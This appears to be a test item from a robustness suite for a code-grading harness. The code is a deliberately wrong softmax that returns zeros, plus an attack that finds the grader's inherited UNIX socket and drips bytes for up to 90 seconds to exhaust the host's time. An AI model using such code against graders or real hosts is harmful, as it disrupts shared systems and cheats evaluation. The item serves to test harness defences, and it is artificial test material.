# attack: host-slow-drip
# category: resource-exhaustion
# expects: 0 points, limited: an answer that comes byte by byte has the time of one answer
# score: 0
# bounds: 90 s a call
# quick: no

# %%
import torch

def softmax(x):
    return torch.zeros_like(x)

# %%
import os, socket, stat

def _pairs():
    """Connected UNIX sockets without a name: one of them is where questions come from."""
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                s = socket.socket(fileno=os.dup(fd))
                if s.family == socket.AF_UNIX and s.type == socket.SOCK_STREAM and not s.getsockname() and s.getpeername() is not None:
                    found.append(s)
                else:
                    s.close()
        except OSError:
            pass
    return found

# %%
import struct, threading, time
_n = [0]

def softmax(x):
    _n[0] += 1
    if _n[0] == 1:
        for s in _pairs():
            s.send(struct.pack("<I", 4000))
            until = time.time() + (90 if globals().get("ATTACK_ARMED") else 1)
            while time.time() < until:
                try:
                    s.send(b" ")
                except OSError:
                    break
                time.sleep(0.5)
    return torch.zeros_like(x)
